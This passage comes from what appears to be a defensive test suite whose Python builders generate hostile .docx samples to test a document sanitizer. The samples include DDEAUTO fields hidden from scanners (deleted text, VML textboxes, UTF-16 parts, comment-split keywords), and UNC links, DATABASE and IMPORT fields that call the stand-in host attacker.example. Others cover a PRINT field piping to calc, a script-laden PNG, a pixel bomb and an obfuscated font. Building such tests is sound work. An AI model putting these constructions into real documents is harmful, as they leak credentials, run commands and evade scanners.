        f'<w:r><w:delInstrText xml:space="preserve">{html.escape(DDEAUTO)}</w:delInstrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:delText>x</w:delText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return _word_with(f'<w:del w:id="2" w:author="a" w:date="2026-01-01T00:00:00Z">{deleted}</w:del>')


@sample(
    "docx_field_in_vml_textbox",
    ".docx",
    "dde-field",
    "VML v:textbox/w:txbxContent: a second story inside a shape",
)
def docx_field_in_vml_textbox(work: Path) -> bytes:
    return _word_with(
        '<w:r><w:pict><v:shape id="tb" style="width:100pt;height:20pt"><v:textbox><w:txbxContent>'
        f"<w:p>{_simple_field(DDEAUTO)}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )


# ---------------------------------------------------------------- sixth round: what a rebuild keeps
@sample(
    "docx_hyperlink_base_unc",
    ".docx",
    "external-relationship",
    "[MS-OI29500] docProps/app.xml HyperlinkBase: a relative link resolves against a UNC base",
)
def docx_hyperlink_base_unc(work: Path) -> bytes:
    package = _docx()
    app = package.text("docProps/app.xml")
    package.put(
        "docProps/app.xml",
        app.replace(
            "</Properties>", "<HyperlinkBase>\\\\attacker.example\\share\\</HyperlinkBase></Properties>"
        ),
    )
    package.add_rel(DOCUMENT_RELS, "rIdRel", RT + "hyperlink", "invoice.exe", True)
    package.body_append('<w:p><w:hyperlink r:id="rIdRel">' + _run("請求書") + "</w:hyperlink></w:p>")
    relative = _complex_field([' HYPERLINK "setup.exe" '], "設定")
    package.body_append(f"<w:p>{relative}</w:p>")
    return package.bytes()


@sample(
    "docx_picture_with_payload",
    ".docx",
    "metadata",
    "a picture part that is a PNG with tEXt script and a ZIP after IEND",
)
def docx_picture_with_payload(work: Path) -> bytes:
    from tests.attacks.builders.images import png_after_iend, png_text_chunks_script

    package = _docx()
    package.put("word/media/image1.png", png_text_chunks_script(work)[:-12] + png_after_iend(work)[-300:])
    return package.bytes()


@sample(
    "docx_embedded_font",
    ".docx",
    "embedded-font",
    "§17.8.3.3 embedRegular: an obfuscated font (a parser-exploit carrier)",
)
def docx_embedded_font(work: Path) -> bytes:
    package = _docx()
    font = bytes(range(256)) * 64  # not a font: whatever it is, a font part must not cross unchecked
    add_part(
        package,
        "word/fonts/font1.odttf",
        font,
        "application/vnd.openxmlformats-officedocument.obfuscatedFont",
        "word/_rels/fontTable.xml.rels",
        "rIdFont",
        RT + "font",
    )
    table = package.text("word/fontTable.xml")
    if 'xmlns:r="' not in table.split(">", 2)[1]:
        table = table.replace("<w:fonts ", f'<w:fonts xmlns:r="{RT[:-1]}" ', 1)
    embed = '<w:font w:name="Evil"><w:embedRegular r:id="rIdFont" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>'
    package.put("word/fontTable.xml", table.replace("</w:fonts>", embed + "</w:fonts>"))
    return package.bytes()


# ---------------------------------------------------------------- seventh round: fields a keep-list might let through
@sample(
    "docx_print_field_postscript",
    ".docx",
    "remote-field",
    "§17.16.5.49 PRINT: printer escapes / PostScript sent to the printer",
)
def docx_print_field_postscript(work: Path) -> bytes:
    return _word_with(_simple_field('PRINT \\p page "(%pipe%calc) (w) file"'))


@sample(
    "docx_database_field",
    ".docx",
    "remote-field",
    "§17.16.5.12 DATABASE: an ODBC query against a workbook on a share",
)
def docx_database_field(work: Path) -> bytes:
    return _word_with(
        _complex_field(
            [
                'DATABASE \\d "\\\\\\\\attacker.example\\\\s\\\\db.xlsx" \\c "DSN=Excel Files;DBQ=x" \\s "SELECT 1" \\h'
            ]
        )
    )


@sample(
    "docx_macrobutton_builtin",
    ".docx",
    "remote-field",
    "§17.16.5.39 MACROBUTTON: double-click runs a command",
)
def docx_macrobutton_builtin(work: Path) -> bytes:
    return _word_with(_simple_field("MACROBUTTON FileOpenFile ここをダブルクリック"))


@sample("docx_import_field", ".docx", "remote-field", "IMPORT (legacy INCLUDEPICTURE) from a share")
def docx_import_field(work: Path) -> bytes:
    return _word_with(_simple_field('IMPORT "\\\\\\\\attacker.example\\\\s\\\\p.png"'))


@sample(
    "docx_picture_pixel_bomb",
    ".docx",
    "bomb",
    "a picture part that is a 20000×20000 PNG (pixel bomb inside a package)",
)
def docx_picture_pixel_bomb(work: Path) -> bytes:
    from tests.attacks.builders.images import png_decompression_bomb

    package = _docx()
    package.put("word/media/image1.png", png_decompression_bomb(work))
    return package.bytes()


# ---------------------------------------------------------------- eighth round: XML spellings a byte or text scan misses
@sample(
    "docx_utf16_document_part",
    ".docx",
    "prefix-trick",
    "OPC §8.1.4: parts may be UTF-16; a DDEAUTO no UTF-8 byte scan sees",
)
def docx_utf16_document_part(work: Path) -> bytes:
    package = _docx()
    text = package.text("word/document.xml").replace(
        "<w:sectPr", f"<w:p>{_simple_field(DDEAUTO)}</w:p><w:sectPr", 1
    )
    text = re.sub(r"^<\?xml[^>]*\?>", '<?xml version="1.0" encoding="UTF-16" standalone="yes"?>', text)
    package.put("word/document.xml", text.encode("utf-16"))
    return package.bytes()


@sample(
    "docx_comment_splits_keyword",
    ".docx",
    "dde-field",
    "XML 1.0 §2.5: a comment inside instrText splits DDE|AUTO for text-node readers",
)
def docx_comment_splits_keyword(work: Path) -> bytes:
    return _word_with(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">DD<!-- x -->EA<?pi x?>UTO <![CDATA[{CALC} "/k calc"]]></w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + _run("x")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
